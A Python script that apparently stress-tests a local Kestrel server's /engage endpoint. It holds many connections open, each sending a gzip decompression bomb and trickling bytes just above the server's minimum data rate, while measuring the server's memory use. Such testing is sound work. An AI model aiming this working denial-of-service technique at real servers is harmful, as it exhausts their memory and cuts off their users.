#!/usr/bin/env python3
"""Slow-body flood: N connections each send a gzip body whose first ~10 KB decode to 9.5 MB, then
keep it alive by trickling (300 decoded bytes per second, padded with empty deflate blocks to 300
wire bytes per second, above Kestrel's own 240 B/s floor), for a bounded time. Samples the server's
resident memory (VmRSS of the given pid) before, during and after.

usage: flood.py PID PORT TOKEN [CONNECTIONS] [SECONDS]
"""
import asyncio, sys, time, zlib

pid, port, token = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
connections = int(sys.argv[4]) if len(sys.argv) > 4 else 100
seconds = float(sys.argv[5]) if len(sys.argv) > 5 else 60

def rss_mib():
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0

def chunk(data):
    return b"%x\r\n" % len(data) + data + b"\r\n"

EMPTY_BLOCK = b"\x00\x00\x00\xff\xff"  # a non-final stored deflate block of no bytes

# Compressed once; each connection continues from a copy of the compressor.
BASE = zlib.compressobj(9, zlib.DEFLATED, 31)
PREFIX = BASE.compress(b"[" + b" " * 9_500_000) + BASE.flush(zlib.Z_SYNC_FLUSH)

async def flood_one(results, deadline):
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    z = BASE.copy()
    prefix = PREFIX
    writer.write(b"POST /engage HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                 b"Content-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk(prefix))
    await writer.drain()
    alive = True
    while time.monotonic() < deadline:
        step = z.compress(b" " * 300) + z.flush(zlib.Z_SYNC_FLUSH)
        step += EMPTY_BLOCK * max(0, (300 - len(step)) // len(EMPTY_BLOCK))
        try:
            writer.write(chunk(step))
            await writer.drain()
        except (ConnectionError, OSError):
            alive = False
            break
        await asyncio.sleep(1)
    results.append(alive)
    writer.close()

async def main():
    before = rss_mib()
    deadline = time.monotonic() + seconds
    results = []
    tasks = [asyncio.create_task(flood_one(results, deadline)) for _ in range(connections)]
    peak = before
    while time.monotonic() < deadline:
        await asyncio.sleep(1)
        peak = max(peak, rss_mib())
    await asyncio.gather(*tasks, return_exceptions=True)
    end = rss_mib()
    await asyncio.sleep(10)
    settled = rss_mib()
    print(f"connections={connections} seconds={seconds:.0f} wire_prefix_bytes={len(PREFIX)} still_open_at_end={sum(results)}")
    print(f"rss_mib before={before:.0f} peak={peak:.0f} at_end={end:.0f} 10s_after={settled:.0f}")

asyncio.run(main())
